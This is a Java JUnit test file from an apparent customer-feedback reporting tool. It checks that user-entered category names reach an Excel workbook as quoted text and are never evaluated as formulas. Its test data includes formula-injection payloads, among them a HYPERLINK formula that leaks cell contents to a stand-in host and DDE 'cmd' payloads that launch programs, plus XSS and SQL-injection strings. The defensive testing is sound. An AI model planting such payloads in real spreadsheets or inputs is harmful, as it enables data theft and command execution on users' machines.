package de.kundenstimme.reporting.control;

import de.kundenstimme.feedback.control.SatisfactionFigures;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Names typed by users reach the report's workbook as plain text, never as a formula. */
class ReportWorkbookTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klick\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|'/C calc'!A0"})
    void aFormulaLikeCategoryIsWrittenAsQuotedText(String name) throws IOException {
        Cell cell = categoryCell(name);

        assertEquals(CellType.STRING, cell.getCellType());
        assertEquals(name, cell.getStringCellValue(), "kept exactly as typed");
        assertTrue(cell.getCellStyle().getQuotePrefixed(), "marked as text, so no program evaluates it");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Lieferung › Verspätung", "<script>alert(1)</script>", "' OR 1=1 --", "Rechnung = falsch"})
    void otherNamesStayOrdinaryText(String name) throws IOException {
        Cell cell = categoryCell(name);

        assertEquals(CellType.STRING, cell.getCellType());
        assertEquals(name, cell.getStringCellValue());
        assertFalse(cell.getCellStyle().getQuotePrefixed());
    }

    /** The count of one category, in its sheet of a report otherwise empty. */
    private static Cell categoryCell(String name) throws IOException {
        Distribution none = new Distribution(List.of());
        Share zero = new Share(0, 0);
        Figures figures = new Figures(Period.month(LocalDate.of(2026, 1, 1)), null, LocalDate.of(2026, 2, 2), 3,
                List.of(), List.of(new Figures.Count("X", name, 3)), List.of(), List.of(), List.of(), List.of(), none, none,
                zero, zero, List.of(), zero, zero, zero, zero, BigDecimal.ZERO, List.of(), List.of(), List.of(), List.of(),
                List.of(), SatisfactionFigures.of(List.of()));
        byte[] xlsx = ReportWorkbook.of(figures, Map.of(), Map.of());
        try (Workbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet categories = workbook.getSheet("Kategorie");
            Row row = categories.getRow(1);
            return row.getCell(0);
        }
    }
}
